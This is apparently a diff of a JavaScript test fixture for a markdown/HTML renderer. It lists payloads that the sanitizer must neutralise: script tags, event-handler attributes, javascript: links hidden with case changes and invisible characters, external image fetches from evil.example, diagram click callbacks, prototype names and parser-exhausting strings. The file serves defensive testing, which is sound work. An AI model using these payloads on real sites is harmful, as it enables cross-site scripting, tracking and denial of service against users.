@@ -1,13 +1,13 @@
 /**
- * Texts that somebody might write to make the page run, fetch, open or go somewhere. Each calls the trap or asks for
- * something at `evil.example` if it succeeds.
+ * Hostile texts that try to run code, fetch, open windows or navigate. A successful one calls the trap or requests
+ * `evil.example`.
  */
 import { SENTINEL } from './trap.mjs';
 
 const RUN = `${SENTINEL}()`;
 const FOREIGN = 'https://evil.example';
 
-/** Raw HTML, in all the ways that once worked somewhere. */
+/** Raw HTML payloads. */
 const HTML = [
   `<script>${RUN}</script>`,
   `<script src="${FOREIGN}/x.js"></script>`,
@@ -63,7 +63,7 @@ const HTML = [
   `<br onmouseover="${RUN}"><br/onload=${RUN}>`,
 ];
 
-/** Addresses that must not become links, or lead anywhere by themselves. */
+/** URLs that must not become links or navigate. */
 const LINKS = [
   `[press](javascript:${RUN})`,
   `[press](JaVaScRiPt:${RUN})`,
@@ -93,7 +93,7 @@ const LINKS = [
   `www.evil.example/"onmouseover="${RUN}`,
 ];
 
-/** Pictures: of another place they are links, and nothing is fetched. */
+/** External images: shown as links, never fetched. */
 const PICTURES = [
   `![x](${FOREIGN}/pixel.png)`,
   `![x](//evil.example/pixel.png)`,
@@ -107,7 +107,7 @@ const PICTURES = [
   `![x](http://127.0.0.1:1/pixel.png)`,
 ];
 
-/** Code, tables and diagrams with something inside. */
+/** Payloads in code, tables and diagrams. */
 const BLOCKS = [
   `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
   `\`\`\`"><img src=x onerror=${RUN}>\ntext\n\`\`\``,
@@ -130,7 +130,7 @@ const BLOCKS = [
   `$\\href{javascript:${RUN}}{x}$ \\(\\html{<img src=x onerror=${RUN}>}\\)`,
 ];
 
-/** Texts that are slow or deep to read: a page that tries hard stands still. */
+/** Texts that are expensive to parse. */
 const HEAVY = [
   '>'.repeat(3_000),
   '['.repeat(20_000),
@@ -154,7 +154,7 @@ const HEAVY = [
   `[a]: ${'x'.repeat(30_000)}\n\n${'[a] '.repeat(3_000)}`,
 ];
 
-/** Names that mean something to JavaScript, in every place where a text may name something. */
+/** JavaScript property names wherever a text can name something. */
 const NAMES = ['__proto__', 'constructor', 'toString', 'hasOwnProperty'].flatMap((name) => [
   `\`\`\`${name}\nx\n\`\`\``,
   `[press][${name}] ![press][${name}] [${name}]`,
@@ -162,7 +162,7 @@ const NAMES = ['__proto__', 'constructor', 'toString', 'hasOwnProperty'].flatMap
   `&${name}; @${name}`,
 ]);
 
-/** Signs that are not seen, or turn what stands beside them. */
+/** Invisible and bidirectional characters. */
 const UNSEEN = [
   `[press](java\u200bscript:${RUN})`,
   `[press](\ufeffjavascript:${RUN})`,
@@ -174,7 +174,7 @@ const UNSEEN = [
   `[press](ｊａｖａｓｃｒｉｐｔ:${RUN})`,
 ];
 
-/** Marks in each other, so that the end of one is the beginning of another. */
+/** Overlapping marks. */
 const TANGLED = [
   `**[press](javascript:${RUN}**)`,
   `[a\`](javascript:${RUN})\`](${FOREIGN})`,
@@ -194,7 +194,7 @@ const TANGLED = [
   `[applet:x] [agent:x] [scheduler:x] **not** from them`,
 ];
 
-/** Diagrams that would like to leave their frame. */
+/** Diagrams that try to leave their frame. */
 const DIAGRAMS = [
   `graph TD\n  A --> B\n  click A call ${RUN}`,
   `graph TD\n  A --> B\n  click A href "javascript:${RUN}" "tip" _blank`,
@@ -215,7 +215,7 @@ const DIAGRAMS = [
 
 const BODY_BYTES_MAX = 65_536;
 
-/** As long as a message can be, in the forms that are dearest to read, to build or to lay out. */
+/** Messages of maximum length in the forms that are most expensive to parse, build or lay out. */
 export const LONGEST = [
   '>',
   '> ',
